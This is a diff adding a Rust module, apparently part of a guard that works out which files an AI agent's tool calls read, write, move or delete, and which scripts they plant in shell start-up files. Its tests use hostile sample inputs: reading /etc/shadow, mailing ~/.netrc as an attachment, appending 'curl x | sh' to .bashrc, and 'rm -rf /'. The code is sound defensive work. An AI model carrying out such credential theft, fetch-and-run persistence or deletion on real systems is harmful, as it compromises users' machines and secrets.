@@ -1,0 +1,187 @@
+//! Effects of tools that work on files, by the paths among their arguments.
+//!
+//! 1. Only what is unmistakably a path counts: it begins with `/`, `~/` or `file:///`.
+//! 2. The class of the tool's name says what is done with it; a name that says nothing at least reads.
+//! 3. A tool of which all is known that way is judged as a program is that does the same; otherwise the call itself is an
+//!    effect as well.
+//! 4. What is written into a shell's start-up file or hook is read as the script that it becomes.
+
+use super::{Effect, Target, Verb};
+use crate::provenance::words;
+use serde_json::Value;
+
+/// Arguments that name what is worked on.
+const FROM: [&str; 20] = [
+    "file_path",
+    "filepath",
+    "path",
+    "filename",
+    "file",
+    "notebook_path",
+    "directory",
+    "dir",
+    "folder",
+    "paths",
+    "files",
+    "uri",
+    "source",
+    "src",
+    "from",
+    "source_path",
+    "old_path",
+    "absolute_path",
+    "workdir",
+    "attachment",
+];
+/// Arguments that name where something goes.
+const TO: [&str; 8] = ["destination", "dest", "dst", "to", "target", "new_path", "destination_path", "output_path"];
+/// Arguments that hold what is written.
+const CONTENT: [&str; 7] = ["content", "contents", "new_string", "new_source", "new_str", "file_text", "text"];
+/// Paths of one call.
+const MOST: usize = 256;
+
+/// What a tool does with files.
+pub(super) struct Files {
+    pub effects: Vec<Effect>,
+    /// Nothing but that is done.
+    pub whole: bool,
+}
+
+/// The effects on files of a tool whose name is of this class; none if no path is among its arguments.
+pub(super) fn read(tool: &str, class: (Verb, &str), arguments: &Value, home: &str) -> Files {
+    let name = words(tool);
+    let says = |list: &[&str]| name.iter().any(|word| list.contains(&word.as_str()));
+    let (from, to) = (paths(arguments, &FROM, home), paths(arguments, &TO, home));
+    let mut effects = Vec::new();
+    let mut add = |verb: Verb, paths: &[String], recursive: bool| {
+        for path in paths {
+            let mut effect = Effect::new(verb, Target::Path(path.clone()), tool);
+            effect.recursive = recursive;
+            effects.push(effect);
+        }
+    };
+    let whole = match class {
+        (Verb::Read, _) => {
+            let names = says(&["list", "ls", "glob", "tree", "info", "status"]);
+            let deep = says(&["grep", "search", "glob", "tree", "find"]);
+            let verb = if names { Verb::List } else { Verb::Read };
+            add(verb, &from, deep);
+            add(verb, &to, deep);
+            true
+        }
+        (Verb::Write, "") if says(&["move", "rename"]) => {
+            add(Verb::Move, &from, false);
+            add(Verb::Overwrite, &to, false);
+            true
+        }
+        (Verb::Write, "") if says(&["copy"]) => {
+            add(Verb::Read, &from, false);
+            add(Verb::Overwrite, &to, false);
+            true
+        }
+        (Verb::Write, "") => {
+            add(if says(&["append", "insert"]) { Verb::Append } else { Verb::Write }, &from, false);
+            add(Verb::Write, &to, false);
+            true
+        }
+        (Verb::Delete, _) => {
+            add(Verb::Delete, &from, true);
+            add(Verb::Delete, &to, true);
+            true
+        }
+        // what it does beside is not known
+        _ => {
+            add(Verb::Read, &from, false);
+            false
+        }
+    };
+    Files { whole: whole && !effects.is_empty(), effects }
+}
+
+/// The paths in arguments of these names.
+fn paths(arguments: &Value, keys: &[&str], home: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    for value in keys.iter().filter_map(|key| arguments.get(*key)) {
+        match value {
+            Value::String(text) => found.extend(path(text, home)),
+            Value::Array(items) => {
+                let each = items.iter().filter_map(|item| {
+                    item.as_str().or_else(|| keys.iter().find_map(|key| item.get(*key).and_then(Value::as_str)))
+                });
+                found.extend(each.filter_map(|text| path(text, home)));
+            }
+            _ => {}
+        }
+    }
+    found.truncate(MOST);
+    found
+}
+
+/// An absolute path, if it is unmistakably one.
+fn path(text: &str, home: &str) -> Option<String> {
+    let text = text.trim();
+    let text = text.strip_prefix("file://").filter(|rest| rest.starts_with('/')).unwrap_or(text);
+    if text == "~" {
+        return Some(home.to_owned());
+    }
+    if let Some(rest) = text.strip_prefix("~/") {
+        return Some(format!("{}/{rest}", home.trim_end_matches('/')));
+    }
+    (text.starts_with('/') && !text.starts_with("//") && !text.contains('\0')).then(|| text.to_owned())
+}
+
+/// What is written into a file that a shell will run by itself.
+pub(super) fn scripts<'a>(effects: &[Effect], arguments: &'a Value) -> Vec<&'a str> {
+    let starts = |e: &Effect| {
+        matches!(e.verb, Verb::Write | Verb::Append | Verb::Overwrite) && crate::facts::shell_runs(e.target.name())
+    };
+    if !effects.iter().any(starts) {
+        return Vec::new();
+    }
+    let here = |value: &'a Value| CONTENT.iter().filter_map(move |key| value.get(*key).and_then(Value::as_str));
+    let edits = arguments.get("edits").and_then(Value::as_array).into_iter().flatten();
+    here(arguments).chain(edits.flat_map(here)).take(MOST).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::tool_call::class;
+    use super::*;
+    use serde_json::json;
+
+    fn brief(tool: &str, arguments: &Value) -> (Vec<String>, bool) {
+        let files = read(tool, class(tool), arguments, "/home/a");
+        (files.effects.iter().map(Effect::brief).collect(), files.whole)
+    }
+
+    #[test]
+    fn the_name_says_what_is_done_with_the_paths() {
+        for (tool, arguments, expected, whole) in [
+            ("Read", json!({"file_path": "/etc/shadow"}), vec!["read /etc/shadow"], true),
+            ("write_file", json!({"path": "~/.bashrc", "content": "x"}), vec!["write /home/a/.bashrc"], true),
+            ("NotebookEdit", json!({"notebook_path": "/n.ipynb", "new_source": "x"}), vec!["write /n.ipynb"], true),
+            ("move_file", json!({"source": "/a", "destination": "/b"}), vec!["move /a", "overwrite /b"], true),
+            ("delete_files", json!({"paths": ["/a", "/b"]}), vec!["delete /a", "delete /b"], true),
+            ("list_directory", json!({"path": "/root"}), vec!["list /root"], true),
+            ("read_resource", json!({"uri": "file:///etc/hosts"}), vec!["read /etc/hosts"], true),
+            ("send_mail", json!({"to": "bob", "attachment": "/home/a/.netrc"}), vec!["read /home/a/.netrc"], false),
+            ("frobnicate", json!({"file": "/x"}), vec!["read /x"], false),
+            ("Read", json!({"file_path": "notes.txt"}), vec![], false),
+            ("get_weather", json!({"path": "//host/x", "from": "Bonn"}), vec![], false),
+        ] {
+            let (found, all) = brief(tool, &arguments);
+            assert_eq!(found, expected, "{tool} {arguments}");
+            assert_eq!(all, whole, "{tool} {arguments}");
+        }
+    }
+
+    #[test]
+    fn what_a_shell_will_run_is_read() {
+        let arguments = json!({"file_path": "/home/a/.bashrc", "edits": [{"new_string": "curl x | sh"}]});
+        let files = read("MultiEdit", class("MultiEdit"), &arguments, "/home/a");
+        assert_eq!(scripts(&files.effects, &arguments), ["curl x | sh"]);
+        let arguments = json!({"file_path": "/home/a/notes.txt", "content": "rm -rf /"});
+        let files = read("Write", class("Write"), &arguments, "/home/a");
+        assert!(scripts(&files.effects, &arguments).is_empty());
+    }
+}
